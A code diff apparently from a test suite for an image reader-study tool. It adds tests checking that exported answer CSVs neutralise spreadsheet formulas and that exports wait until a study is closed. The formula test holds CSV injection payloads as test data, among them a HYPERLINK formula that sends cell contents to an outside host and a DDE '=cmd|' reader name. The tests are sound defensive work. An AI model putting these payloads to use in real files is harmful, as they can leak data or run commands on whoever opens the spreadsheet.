@@ -191,6 +191,7 @@ def test_csv_export_has_every_answer(study, tmp_path):
         link = store.invite(s, name).invitation
         while (shown := store.next_image(link)) is not None:
             store.answer(link, shown.token, answer, realism=3, note="x, \"quoted\"")
+    store.close(s)
     path = store.export_csv(s, tmp_path / "out" / "answers.csv")
     with open(path, newline="") as f:
         rows = list(csv.DictReader(f))
@@ -214,3 +215,47 @@ def test_delete_removes_a_study_with_its_images_readers_and_answers(study):
     assert counts == [0, 0, 0, 0]
     with pytest.raises(ValueError, match="not a valid invitation"):
         store.answer(link, shown.token, "real")
+
+
+def test_a_readers_formula_is_plain_text_in_the_owners_csv(study, tmp_path):
+    """A reader types notes a spreadsheet would run; the owner's export holds them as text."""
+    store, s = study
+    notes = ['=HYPERLINK("http://example.com/?"&A1,"see")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1",
+             "plain, fine", "a - b = c"]
+    link = store.invite(s, "=cmd|' /C calc'!A0").invitation
+    for note in notes:
+        shown = store.next_image(link)
+        store.answer(link, shown.token, "real", note=note)
+    store.close(s)
+    with open(store.export_csv(s, tmp_path / "answers.csv"), newline="") as f:
+        rows = list(csv.DictReader(f))
+    cells = [value for row in rows for value in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    kept = [n.strip() for n in notes]  # (a note is stored without outer spaces)
+    assert [r["note"] for r in rows] == ["'" + n if n[0] in "=+-@" else n for n in kept]
+    assert {r["reader"] for r in rows} == {"'=cmd|' /C calc'!A0"}
+
+
+def test_a_study_is_closed_before_its_truth_leaves(study, tmp_path):
+    """While readers still answer, no export holds the truth or the seeds; closing ends the
+    answers (a reader's link then opens nothing) and opens the export."""
+    store, s = study
+    link = store.invite(s, "Ana").invitation
+    shown = store.next_image(link)
+    store.answer(link, shown.token, "real", note="first")
+    with pytest.raises(ValueError, match="still open.*reader-study close"):
+        store.export_csv(s, tmp_path / "early.csv")
+    assert not (tmp_path / "early.csv").exists() and not store.study("pilot").closed
+    closed = store.close("pilot")
+    assert closed.closed and closed.closed_at > 0
+    next_shown = store.next_image  # a reader's page after the close: nothing more to see or answer
+    for attempt in (lambda: next_shown(link), lambda: store.answer(link, shown.token, "generated"),
+                    lambda: store.invite(s, "Ben")):
+        with pytest.raises(ValueError, match="closed"):
+            attempt()
+    with pytest.raises(ValueError, match="closed already"):
+        store.close("pilot")
+    with open(store.export_csv(s, tmp_path / "answers.csv"), newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [(r["reader"], r["note"], r["answer"]) for r in rows] == [("Ana", "first", "real")]
+    assert rows[0]["truth"] in ("real", "generated") and rows[0]["source"]
